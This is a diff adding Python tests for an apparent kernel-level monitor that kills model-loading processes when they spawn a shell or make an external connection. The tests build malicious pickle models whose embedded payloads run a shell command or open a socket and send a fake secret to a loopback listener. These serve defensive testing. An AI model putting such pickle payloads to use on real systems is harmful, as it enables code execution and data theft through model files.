@@ -1,0 +1,74 @@
+"""--enforce: the kernel side SIGKILLs a process that loaded a model at the
+offending exec (before the new program runs) or external connect (before
+its caller sends a byte), and the alert says so."""
+import os
+import time
+
+from harness import Checks, Scenario, TestFailure, get, require_rules, with_rule
+
+
+def test_enforce_kills_shell_before_it_runs():
+    with Scenario("enforce-shell") as sc:
+        marker = sc.path("MARKER")
+        model = sc.make_model("pickle", "model.pkl", system="touch " + marker)
+        sc.start(extra_args=["--enforce"])
+        ld = sc.run_loader("pickle", model)
+        sc.wait_rules(ld.pid, {"model-loader-shell"})
+        time.sleep(0.5)
+        alerts = sc.stop()
+        mine = require_rules(sc, alerts, ld.pid, {"model-loader-shell"})
+        c = Checks("enforce shell")
+        c.true(not os.path.exists(marker), "the shell ran: %s exists" % marker)
+        for a in with_rule(mine, "model-loader-shell"):
+            c.eq(get(a, "event", "action"), "killed", "shell alert event.action")
+            c.eq(get(a, "event", "args"), ["sh", "-c", "touch " + marker], "shell args")
+        # pickle's os.system returns the shell's wait status; the loader lives
+        c.eq(ld.rc, 0, "loader exit status (only the shell is killed)")
+        c.done()
+
+
+def test_enforce_kills_external_connect_before_data():
+    """In-process payload: connect to a 127.0.0.1 listener (external under
+    --internal-net 10.0.0.0/8) and send a fake secret. The loader dies in
+    connect(); the listener gets no byte."""
+    with Scenario("enforce-connect") as sc:
+        lst = sc.listener()
+        code = ("import socket; s=socket.create_connection(('127.0.0.1', %d)); "
+                "s.sendall(b'SECRET-PAYLOAD'); s.close()") % lst.port
+        model = sc.make_model("pickle", "model.pkl", exec_code=code)
+        sc.start(extra_args=["--enforce"])
+        ld = sc.run_loader("pickle", model)
+        sc.wait_rules(ld.pid, {"model-loader-external-connect"})
+        lst.wait(1, timeout=2.0)
+        alerts = sc.stop()
+        mine = require_rules(sc, alerts, ld.pid, {"model-loader-external-connect"})
+        c = Checks("enforce connect")
+        c.eq(ld.rc, -9, "loader exit status (SIGKILL)")
+        c.true(not any(b"SECRET" in d for d in lst.received),
+               "the listener received the payload's bytes")
+        for a in with_rule(mine, "model-loader-external-connect"):
+            c.eq(get(a, "event", "action"), "killed", "connect alert event.action")
+        c.done()
+
+
+def test_enforce_spares_benign_load():
+    """A benign load that runs a compiler the way torch.compile does and
+    connects to a loopback parameter server marked internal is not killed."""
+    with Scenario("enforce-benign") as sc:
+        lst = sc.listener()
+        model = sc.make_model("pickle", "model.pkl")
+        script = (
+            "import pickle, socket, subprocess\n"
+            "pickle.load(open(%r, 'rb'))\n"
+            "subprocess.run(['gcc', '--version'], check=True, stdout=subprocess.DEVNULL)\n"
+            "s = socket.create_connection(('127.0.0.1', %d)); s.sendall(b'grad'); s.close()\n"
+            "print('DONE')\n") % (model, lst.port)
+        sc.start(extra_args=["--enforce", "--internal-net", "127.0.0.0/8"])
+        res = sc.run_script(script)
+        alerts = sc.stop()
+        c = Checks("enforce benign")
+        c.eq(res.rc, 0, "benign script exit status")
+        c.true("DONE" in res.out, "benign script did not finish: %r" % res.err[-300:])
+        killed = [a for a in alerts if get(a, "event", "action") == "killed"]
+        c.true(not killed, "killed in a benign run: %s" % killed[:1])
+        c.done()
